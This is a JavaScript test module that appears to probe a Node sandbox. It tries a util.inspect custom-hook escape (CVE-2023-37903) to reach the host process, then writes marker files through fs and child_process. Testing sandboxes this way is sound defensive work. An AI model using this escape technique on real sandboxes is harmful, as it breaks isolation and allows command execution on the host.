// Escape attempt: CVE-2023-37903 / GHSA-v37h-5mfm-c47c / GHSA-p5gc-c584-jj6v: a util.inspect custom hook gets the host inspect function when the host formats the object.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-inspect-custom',
  description: 'sandbox escape attempt: inspect-custom',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const hook = Symbol.for("nodejs.util.inspect.custom");
    const evil = { [hook]: (depth, opts, inspect) => { attempt(notes, "inspect", () => pwn(inspect.constructor("return process")(), marker, notes, "inspect arg")); attempt(notes, "opts", () => pwn(opts.constructor.constructor("return process")(), marker, notes, "inspect opts")); return "x"; } };
    attempt(notes, "send obj", () => __send(evil));
    attempt(notes, "log obj", () => ctx.log(evil));
    const err = new Error("e"); err[hook] = evil[hook];
    try { await ctx.redis(evil, "PING"); } catch (e) { notes.push("redis evil refused"); }
    try { await ctx.logs(evil, evil); } catch (e) { notes.push("logs evil refused"); }
    attempt(notes, "throw", () => { throw err; });
    return { summary: notes.join(' | '), data: notes };
  },
};
